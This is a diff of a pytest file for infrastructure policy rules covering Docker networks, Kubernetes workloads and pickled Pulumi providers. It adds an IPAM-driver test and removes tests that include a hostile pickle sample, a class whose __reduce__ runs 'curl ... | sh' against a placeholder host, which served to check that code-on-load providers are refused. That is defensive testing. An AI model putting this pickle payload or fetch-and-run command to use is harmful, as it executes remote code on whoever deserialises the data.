@@ -4,22 +4,15 @@ spelling the program uses, which passes."""
 from __future__ import annotations
 
 import base64
-import os
-import pickle
 from typing import Any
 
 import pytest
 from harness import UNKNOWN, at_preview, check_resource, check_stack, hardened_container, resource, stack_of
-from pulumi.dynamic.dynamic import serialize_provider
 from test_kubernetes_rules import Change, container, hardened_network_policy, hardened_statefulset, pod
 from test_kubernetes_rules import stack_of as kubernetes_stack
 from trade2026_policies import POLICIES
 from trade2026_policies.framework import CONTAINER, IMAGE, NETWORK, VOLUME
 from trade2026_policies.kubernetes import CONFIG_MAP, NAMESPACE, SECRET, STATEFUL_SET
-from trade2026_policies.readydata import READY_DATA_TYPES, read_pickle
-
-from components.readydata import JetStreamStreamProvider, S3BucketProvider
-from offline.engine import sdk_pickle_restored
 
 BY_NAME = {policy.name: policy for policy in POLICIES}
 LABEL = "trade2026-dev-nats"
@@ -247,6 +240,15 @@ def test_a_network_off_the_bridge_driver_is_refused(driver: str) -> None:
     assert found == [f"network trade2026-dev-x: driver {driver} is not bridge"]
 
 
+def test_a_network_whose_addresses_a_plugin_manages_is_refused_and_dockers_own_passes() -> None:
+    network = {"name": "trade2026-dev-x", "driver": "bridge"}
+    found = check_resource(BY_NAME["bridge-networks"], {**network, "ipamDriver": "infoblox"}, type_=NETWORK)
+    assert found == ["network trade2026-dev-x: ipamDriver infoblox hands address management to a plugin"]
+    # "default", which the provider's Check fills in when the program leaves it unset.
+    assert check_resource(BY_NAME["bridge-networks"], {**network, "ipamDriver": "default"}, type_=NETWORK) == []
+    assert check_resource(BY_NAME["docker-allowed-fields"], {**network, "ipamDriver": "default"}, type_=NETWORK) == []
+
+
 @pytest.mark.parametrize(
     ("props", "network"),
     [
@@ -391,65 +393,6 @@ def test_opensearch_security_off_in_a_pod_is_refused_on_prod() -> None:
     assert check_resource(BY_NAME["opensearch-security-enabled"], workload, type_=STATEFUL_SET, stack="prod") == [
         "StatefulSet nats: container nats: OpenSearch without login and TLS on stack prod"
     ]
-
-
-# Ready data: the pickled provider ------------------------------------------------------------------
-
-
-class _RunsAShell:
-    def __reduce__(self) -> tuple[Any, tuple[str]]:
-        return os.system, ("curl -fsS https://x.example.net | sh",)
-
-
-def _encoded(value: Any) -> str:
-    with sdk_pickle_restored():
-        return serialize_provider(value)
-
-
-STREAM = READY_DATA_TYPES[0]
-
-
-def _stream(provider: Any) -> dict[str, Any]:
-    return {"kind": "JetStreamStream", "name": "ORDERS", "storage": "file", "__provider": provider}
-
-
-def test_the_programs_own_provider_pickle_is_one_class_of_its_module_and_plain_data() -> None:
-    contents = read_pickle(base64.b64decode(_encoded(JetStreamStreamProvider())))
-    assert (contents.globals, contents.calls) == (("components.readydata.JetStreamStreamProvider",), ())
-    assert (
-        check_resource(BY_NAME["ready-data-providers"], _stream(_encoded(JetStreamStreamProvider())), type_=STREAM)
-        == []
-    )
-
-
-@pytest.mark.parametrize(
-    ("provider", "problem"),
-    [
-        (
-            lambda: _encoded(S3BucketProvider()),
-            "its pickled provider names components.readydata.S3BucketProvider, "
-            "not only components.readydata.JetStreamStreamProvider",
-        ),
-        (
-            lambda: base64.b64encode(pickle.dumps(_RunsAShell())).decode(),
-            "its pickled provider names posix.system and runs code while loading (REDUCE), "
-            "not only components.readydata.JetStreamStreamProvider",
-        ),
-        (lambda: "not base64!", "its pickled provider is not a readable pickle (Only base64 data is allowed)"),
-        (lambda: base64.b64encode(b"\x80\x04junk").decode(), "its pickled provider is not a readable pickle"),
-        (lambda: None, "it has no pickled provider"),
-        (lambda: UNKNOWN, "its provider was unknown at preview, so what `up` would run is unknown"),
-    ],
-    ids=["another kind's class", "a callable run on load", "not base64", "not a pickle", "missing", "unknown"],
-)
-def test_a_ready_data_resource_whose_provider_is_not_the_programs_own_class_is_refused(
-    provider: Any, problem: str
-) -> None:
-    props = _stream(provider())
-    if props["__provider"] is None:
-        del props["__provider"]
-    [message] = check_resource(BY_NAME["ready-data-providers"], at_preview(props), type_=STREAM, name="orders")
-    assert message.startswith(f"{STREAM} orders: {problem}")
 
 
 # Kubernetes pods ---------------------------------------------------------------------------------
